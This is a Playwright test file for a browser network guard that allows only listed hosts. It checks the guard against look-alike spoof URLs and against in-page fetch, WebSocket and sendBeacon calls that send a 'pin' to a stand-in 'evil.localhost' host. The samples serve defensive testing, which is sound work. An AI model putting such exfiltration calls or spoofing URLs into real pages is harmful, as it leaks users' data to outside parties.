import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { once } from 'node:events';
import { expect, test } from '@playwright/test';
import { foreignAddresses, guardNetwork } from '../../browser/guard-network.ts';
import { launchBareBrowser } from '../fixtures/bare-browser.ts';

const hosts = ['ecpa.localhost', '*.example.gov.tw', 'localhost'];

const own = [
  'http://ecpa.localhost:1/a',
  'https://ECPA.localhost/',
  'https://example.gov.tw?x',
  'https://a.b.example.gov.tw:8443/c',
  'http://localhost:61161/sign',
];
const foreign = [
  'http://ecpa.localhost.evil.example/',
  'http://xecpa.localhost/',
  'https://ecpa.localhost@evil.example/',
  'https://evilexample.gov.tw/',
  'https://example.gov.tw.evil.example/',
  'https://ecpaxlocalhost/',
  'http://127.0.0.1/',
];

test('tells a host from its look-alikes', () => {
  const pattern = foreignAddresses(hosts);
  expect(own.filter((address) => pattern.test(address))).toEqual([]);
  expect(foreign.filter((address) => !pattern.test(address))).toEqual([]);
});

test('lets a page reach its own hosts only, and notes what it tried', async () => {
  await using browser = await launchBareBrowser();
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(`${request.headers.host?.split(':')[0] ?? ''}${request.url ?? ''}`);
    if (request.url === '/away') response.writeHead(302, { location: `http://evil.localhost:${port}/landed` });
    else response.setHeader('content-type', request.url === '/' ? 'text/html' : 'text/javascript');
    response.end(
      request.url === '/' ? `<script src="http://cdn.localhost:${port}/a.js"></script><img src="/own.png">` : '',
    );
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  const context = await browser.newContext();
  const guard = await guardNetwork(context, ['ecpa.localhost']);
  const page = await context.newPage();
  await page.goto(`http://ecpa.localhost:${port}/`);
  await page.evaluate(async (target) => {
    await fetch(`${target}/stolen?pin=1`).catch(() => undefined);
    new WebSocket(target.replace('http', 'ws'));
    navigator.sendBeacon(`${target}/beacon`, 'x');
  }, `http://evil.localhost:${port}`);
  await page.goto(`http://ecpa.localhost:${port}/away`);
  await expect
    .poll(() => guard.foreign.map(({ type }) => type))
    .toEqual(expect.arrayContaining(['script', 'fetch', 'ping', 'websocket', 'document']));
  expect(guard.foreign).toContainEqual({
    origin: `http://cdn.localhost:${port}`,
    type: 'script',
    page: `http://ecpa.localhost:${port}/`,
  });
  expect(
    asked.filter(
      (what) => !what.startsWith('ecpa.localhost') && !['evil.localhost/', 'evil.localhost/landed'].includes(what),
    ),
  ).toEqual([]);
  await context.close();
  server.closeAllConnections();
  server.close();
});
